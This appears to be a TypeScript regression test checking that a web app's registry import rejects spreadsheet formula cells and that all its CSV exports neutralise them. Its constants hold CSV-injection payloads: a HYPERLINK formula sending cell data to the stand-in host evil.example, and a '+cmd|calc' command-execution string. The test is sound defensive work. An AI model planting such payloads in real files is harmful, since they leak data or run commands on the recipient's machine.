// Attack (issue 15, item 9): a building named `-1+HYPERLINK(…)` passed the registry import (a sign followed by a
// digit was taken for a number), and the scenario CSV export — which had its own writer — wrote it raw, to run as
// a formula when a politician opens the file. Now the import refuses such a cell with line and column, and every
// CSV export (ranking, scenario, audit log, import error report) goes through the one writer, lib/format/csv.ts,
// which defuses it. Each export is checked by parsing what it writes.
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rankingCsv } from '@/app/ranking/rank-rows';
import { GET as auditExport } from '@/app/api/audit/export/route';
import { GET as errorsExport } from '@/app/api/imports/jobs/[id]/errors/route';
import { GET as scenarioExport } from '@/app/api/scenarios/[id]/export/route';
import { recordAudit } from '@/lib/audit/record';
import { csvCell } from '@/lib/format/csv';
import { runImport } from '@/lib/imports/run-import';
import { createRouteTestDb, type RouteTestDb } from '../helpers/route-test-db';
import { createOrgFixture, fixtureCookie, type OrgFixture } from '../integration/auth/fixtures';
import { fingerprint } from '../integration/imports/setup';

process.env.AREAL_BCRYPT_COST ??= '4';

const HOSTILE = '-1+HYPERLINK("http://evil.example/?x="&A1,"Klik")';
const OTHERS = ['=1+1', '+cmd|calc', '@SUM(A1)', '\t=1', '-2+3'];

/** The cells of a CSV text (BOM dropped) as a spreadsheet would read them. */
const cells = (text: string, delimiter = ';') => Papa.parse<string[]>(text.replace(/^\ufeff/, '').trim(), { delimiter }).data.flat();
/** Cells a spreadsheet would run: a leading = + - @ tab or CR that is not a plain number. */
const live = (text: string, delimiter = ';') => cells(text, delimiter).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+([.,]\d+)?$/.test(c));

describe('formula injection through CSV exports', () => {
  let db: RouteTestDb;
  let org: OrgFixture;
  let cookie: string;
  let dir: string;
  const get = (url: string) => new Request(url, { headers: { cookie } });

  beforeAll(async () => {
    db = await createRouteTestDb();
    org = await createOrgFixture(db.pool, 'csv-inject');
    cookie = await fixtureCookie(db.auth, org.users.admin.email, '192.0.2.79');
    dir = await mkdtemp(path.join(tmpdir(), 'areal-csv-'));
    // A building that got its name before the import refused such names (or through any other path).
    await db.pool.query('UPDATE building SET name = $1 WHERE id = $2', [HOSTILE, org.buildings[0]]);
    await db.pool.query(`INSERT INTO scenario_action (scenario_id, building_id, action, receivers) VALUES ($1, $2, 'merge', $3)`, [
      org.scenarios.proposed, org.buildings[0], JSON.stringify([{ buildingId: org.buildings[1], share: 1 }]),
    ]);
    await db.pool.query('UPDATE building SET name = $1 WHERE id = $2', [OTHERS[0], org.buildings[1]]);
  }, 120_000);
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
    await db?.drop();
  });

  it('the registry import refuses the name as a formula cell, naming line and column; nothing changes', async () => {
    const p = path.join(dir, 'registry.csv');
    await writeFile(p, `registry_id;name\nNEW-1;"${HOSTILE.replace(/"/g, '""')}"\n`);
    const before = await fingerprint(db.pool, org.id);
    const r = await runImport({ kind: 'registry', path: p, fileName: 'registry.csv', organisationId: org.id, pool: db.pool });
    expect(r.status).toBe('rejected');
    expect(r.issues.map((i) => [i.line, i.column, i.code])).toEqual([[2, 'name', 'formula_cell']]);
    expect(await fingerprint(db.pool, org.id)).toBe(before);
  });

  it('the scenario CSV export defuses the building names', async () => {
    const res = await scenarioExport(get(`http://localhost/api/scenarios/${org.scenarios.proposed}/export?format=csv`), { params: Promise.resolve({ id: org.scenarios.proposed }) } as never);
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(cells(text)).toContain(`'${HOSTILE}`);
    expect(cells(text)).toContain(`'${OTHERS[0]}`);
    expect(live(text)).toEqual([]);
  });

  it('the ranking CSV defuses names, categories and districts, in both languages', () => {
    const row = { id: 'x', name: HOSTILE, category: 'school', district: OTHERS[1], ancillary: false, scores: { utilisation: 10, cost: -5, condition: null }, combined: -2.5, confidence: 0.5 } as never;
    for (const [locale, delimiter] of [['da', ';'], ['en', ',']] as const) {
      const text = rankingCsv([row], locale, ['#', 'name', 'category', 'district', 'combined', 'u', 'c', 'k', 'conf'], () => OTHERS[2]);
      expect(live(text, delimiter)).toEqual([]);
      expect(cells(text, delimiter)).toContain(`'${HOSTILE}`);
      expect(cells(text, delimiter)).toContain(locale === 'da' ? '-2,5' : '-2.5'); // negative numbers stay numbers
    }
  });

  it('the audit log export defuses every cell', async () => {
    await db.pool.query('UPDATE app_user SET name = $1 WHERE id = $2', [HOSTILE, org.users.admin.id]);
    await recordAudit(db.pool, { organisationId: org.id, userId: org.users.admin.id, action: 'scenario.delete', entity: 'scenario', entityId: OTHERS[3], before: { name: HOSTILE } });
    const res = await auditExport(get('http://localhost/api/audit/export'), { params: Promise.resolve({}) } as never);
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(cells(text)).toContain(`'${HOSTILE}`);
    expect(live(text)).toEqual([]);
  });

  it('the import error report defuses the rejected values', async () => {
    const p = path.join(dir, 'occ.csv');
    await writeFile(p, `timestamp;sensor_id;count\n${OTHERS.map((o) => `2026-03-02T08:00:00Z;"${o}";1`).join('\n')}\n2026-03-02T08:00:00Z;S;"${HOSTILE.replace(/"/g, '""')}"\n`);
    const r = await runImport({ kind: 'occupancy', path: p, fileName: '=evil.csv', organisationId: org.id, pool: db.pool, userId: org.users.admin.id, source: 'web' });
    expect(r.status).toBe('rejected');
    const res = await errorsExport(get(`http://localhost/api/imports/jobs/${r.jobId}/errors?lang=da`), { params: Promise.resolve({ id: r.jobId }) } as never);
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(cells(text)).toContain(`'${HOSTILE}`);
    expect(live(text)).toEqual([]);
  });

  it('the writer quotes what would leave its cell and leaves plain numbers alone', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\r\nbreak')).toBe('"line\r\nbreak"');
    expect(csvCell('-12,5')).toBe('-12,5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(null)).toBe('');
    expect(csvCell('=1')).toBe(`"'=1"`);
  });
});
